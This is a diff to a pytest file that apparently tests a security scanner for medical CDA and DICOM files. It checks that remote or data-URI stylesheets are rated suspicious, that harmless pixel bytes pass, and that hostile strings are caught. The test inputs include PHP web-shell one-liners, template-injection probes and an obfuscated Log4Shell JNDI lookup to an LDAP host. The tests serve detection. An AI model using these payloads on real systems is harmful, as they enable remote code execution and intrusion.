@@ -109,6 +109,21 @@ def test_honest_escapes_and_schemas_are_clean(text: str, more: str) -> None:
     assert judged(cda(text, more)).verdict is Verdicts.CLEAN
 
 
+@pytest.mark.parametrize(
+    ("address", "verdict"),
+    [
+        ("https://ehr.example.com/xml/CDA.xsl", Verdicts.CLEAN),
+        ("http://ehr.example.com/xml/CDA.xsl", Verdicts.SUSPICIOUS),
+        ("https://192.0.2.1/CDA.xsl", Verdicts.SUSPICIOUS),
+        ("data:text/xsl;base64,PHg+", Verdicts.SUSPICIOUS),
+    ],
+)
+def test_a_stylesheet_of_a_maker_is_told_and_no_alarm(address: str, verdict: Verdicts) -> None:
+    raw = f'<?xml-stylesheet type="text/xsl" href="{address}"?>{cda("ok")}'
+    assert "xml.stylesheet" in rules(raw)
+    assert judged(raw).verdict is verdict
+
+
 def test_a_schema_on_a_share_elsewhere_is_found() -> None:
     more = 'xmlns:x="urn:x" x:schemaLocation="urn:hl7-org:v3 \\\\192.0.2.1\\s\\CDA.xsd"'
     assert "record.address" in rules(cda("ok", more))
@@ -230,7 +245,19 @@ def test_meta_information_longer_than_the_file_is_found() -> None:
 
 
 def test_pixels_that_look_like_the_beginning_of_a_page_are_clean() -> None:
-    for chance in (b"<?=DCBA" * 30, b"<?=81(64284(", b"<?=`t\x90", b"{{xxvonflqhhef`YWYTQLZMJHG@E>@:0/13:3*.3*4"):
+    for chance in (
+        b"<?=DCBA" * 30,
+        b"<?=81(64284(",
+        b"<?=`t\x90",
+        b"${CY${CZ",
+        b"{{xxvonflqhhef`YWYTQLZMJHG@E>@:0/13:3*.3*4",
+    ):
         assert judged(image(element(0x00204000, b"LT", chance))).verdict is Verdicts.CLEAN
-    for command in (b"<?=system($_GET[0]);", b"<?=`$_GET[0]`?>", b"{{7*7}}", b"{{ 7 * '7' }}"):
+    for command in (
+        b"<?=system($_GET[0]);",
+        b"<?=`$_GET[0]`?>",
+        b"{{7*7}}",
+        b"{{ 7 * '7' }}",
+        b"${${date:'j'}ndi:ldap://x}",
+    ):
         assert judged(image(element(0x00204000, b"LT", command))).verdict in FOUND
